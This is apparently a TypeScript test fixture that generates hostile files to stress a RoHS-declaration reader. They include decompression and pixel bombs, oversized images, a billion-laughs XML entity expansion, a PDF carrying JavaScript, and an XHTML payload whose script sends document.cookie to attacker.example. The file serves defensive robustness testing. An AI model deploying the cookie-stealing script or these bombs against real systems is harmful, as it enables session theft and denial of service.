/**
 * The hostile-documents corpus (issue 18): files built at test time — never committed — to
 * make the document reader blow up: wildcard and repetition tokens for the coverage matcher
 * and the finders, wide, deep and entity-laden XML for the IPC-1752A parser, Flate and pixel
 * bombs for pdf.js and the image decoder, PDFs that carry embedded files and JavaScript, and
 * XML with XHTML payloads. Each entry names the MIME type a browser would send with it.
 */
import { crc32, deflateSync } from 'node:zlib';
import { textPdf } from '../declarations.js';
import { activePdf, hostileXml, imageBombPdf, inflationBombPdf } from '../hostile-files.js';

export interface HostileDocument {
  name: string;
  file: string;
  type: string;
  bytes: Buffer;
}

/** A PNG (grey, 8 bit) with a real IHDR and IDAT: white pixels unless `idat` is given. */
export function png(width: number, height: number, idat?: Buffer): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  const data = idat ?? deflateSync(whiteRows(width, height), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Raw greyscale rows, each after its filter-type byte (0, none), all white. */
function whiteRows(width: number, height: number): Buffer {
  const rows = Buffer.alloc((width + 1) * height, 0xff);
  for (let row = 0; row < height; row++) rows[row * (width + 1)] = 0;
  return rows;
}

/** A JPEG whose start-of-frame claims `width` × `height`, with no real image after it. */
function jpegClaiming(width: number, height: number): Buffer {
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, 0, 0, 0, 0, 0x03]);
  sof.writeUInt16BE(height, 5);
  sof.writeUInt16BE(width, 7);
  const components = Buffer.from([0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), sof, components, Buffer.from([0xff, 0xd9])]);
}

const IPC_HEAD =
  '<?xml version="1.0" encoding="UTF-8"?>\n<MainDeclaration xmlns="http://webstds.ipc.org/175x/2.0" version="2.0">\n' +
  '<BusinessInfo><Response date="2026-01-15"/><SupplyCompany name="Yageo"/></BusinessInfo>\n';

/** An IPC-1752A declaration whose `<Product>` holds `body`. */
const ipc = (body: string, head = IPC_HEAD) =>
  Buffer.from(`${head}<Product>${body}</Product>\n</MainDeclaration>\n`);

/** Entities nested ten deep, each ten of the one below: 10^10 'lol's if expanded. */
function billionLaughsXml(): Buffer {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 10; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  const head = IPC_HEAD.replace(
    '<MainDeclaration',
    `<!DOCTYPE MainDeclaration [\n${entities.join('\n')}\n]>\n<MainDeclaration`,
  ).replace('name="Yageo"', 'name="&lol10;"');
  return ipc('<ProductID itemNumber="RC0603FR-0710KL"/>', head);
}

/** A valid declaration carrying XHTML that would run if the file were shown inline. */
function xhtmlPayloadXml(): Buffer {
  const payload =
    '<html:script xmlns:html="http://www.w3.org/1999/xhtml">document.location="http://attacker.example/?c="+document.cookie</html:script>' +
    '<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="alert(document.domain)"/>';
  return ipc(
    `<ProductID itemNumber="RC0603FR-0710KL"/>${payload}`,
    IPC_HEAD.replace('</BusinessInfo>', `${payload}</BusinessInfo>`),
  );
}

/** A statement of the maker naming `tokens` as its part numbers, on a real text layer. */
const statement = (name: string, tokens: string[]): Promise<Buffer> =>
  textPdf([
    'YAGEO Corporation',
    'RoHS Declaration of Conformity',
    'We declare that the products listed below comply with Directive 2011/65/EU as amended by (EU) 2015/863.',
    `Date: 15 January 2026 (${name})`,
    'Part numbers:',
    ...tokens,
  ]);

const pdf = (name: string, bytes: Buffer): HostileDocument => ({
  name,
  file: `${name.replace(/\W+/g, '-')}.pdf`,
  type: 'application/pdf',
  bytes,
});
const xml = (name: string, bytes: Buffer): HostileDocument => ({
  name,
  file: `${name.replace(/\W+/g, '-')}.xml`,
  type: 'application/xml',
  bytes,
});
const image = (name: string, type: 'image/png' | 'image/jpeg', bytes: Buffer): HostileDocument => ({
  name,
  file: `${name.replace(/\W+/g, '-')}.${type === 'image/png' ? 'png' : 'jpg'}`,
  type,
  bytes,
});

export async function hostileDocuments(): Promise<HostileDocument[]> {
  const stars = (n: number) => `RC${'*0'.repeat(n)}X`;
  return [
    // Wildcards and repetition: the coverage matcher and the finders run on the main thread.
    pdf('16-star token', await statement('16', [stars(16)])),
    pdf('40-star token', await statement('40', [stars(40)])),
    pdf('star runs', await statement('runs', ['*'.repeat(400), `${'A*'.repeat(300)}B`])),
    pdf(
      'thousands of patterns',
      await statement(
        'many',
        Array.from({ length: 400 }, (_, i) => `RC06*3FR-*7${i}*KL*; GRM1*8*R7*; *-*-*-*-*${i}`),
      ),
    ),
    pdf(
      'repeated tokens',
      await statement('repeat', [
        '7(c)-I, '.repeat(3000),
        '2011/65/EU '.repeat(2000),
        '15.01.2026 '.repeat(2000),
        '-'.repeat(20_000),
        '9'.repeat(20_000),
        'RC0603FR-0710KL, '.repeat(3000),
        ' ( ( ( ( [ [ { '.repeat(2000),
      ]),
    ),
    // Flate and pixel bombs: the reader's memory, not only its heap (test/hostile-files.ts).
    pdf('Flate bomb, 4 GB of content', inflationBombPdf(4)),
    pdf('image bomb, 2.7 GB of pixels', imageBombPdf(30_000)),
    pdf('image of 147 MB, under the pixel cap', imageBombPdf(7000)),
    pdf(
      'embedded file and JavaScript',
      activePdf('YAGEO Corporation RoHS Declaration RC0603FR-07*'),
    ),
    image(
      'PNG claiming 100000 × 100000',
      'image/png',
      png(100_000, 100_000, deflateSync(Buffer.alloc(1))),
    ),
    image('PNG of 49 megapixels', 'image/png', png(7000, 7000)),
    image('JPEG claiming 65000 × 65000', 'image/jpeg', jpegClaiming(65_000, 65_000)),
    // XML: the IPC-1752A parser.
    xml('300k attributes', Buffer.from(hostileXml.attributes(300_000))),
    xml('2M tiny elements', Buffer.from(hostileXml.elements(2_000_000))),
    xml('nested 100k deep', Buffer.from(hostileXml.nested(100_000))),
    xml('200k wide exemptions', Buffer.from(hostileXml.wide(200_000))),
    xml('billion laughs', billionLaughsXml()),
    xml('XHTML payload', xhtmlPayloadXml()),
  ];
}
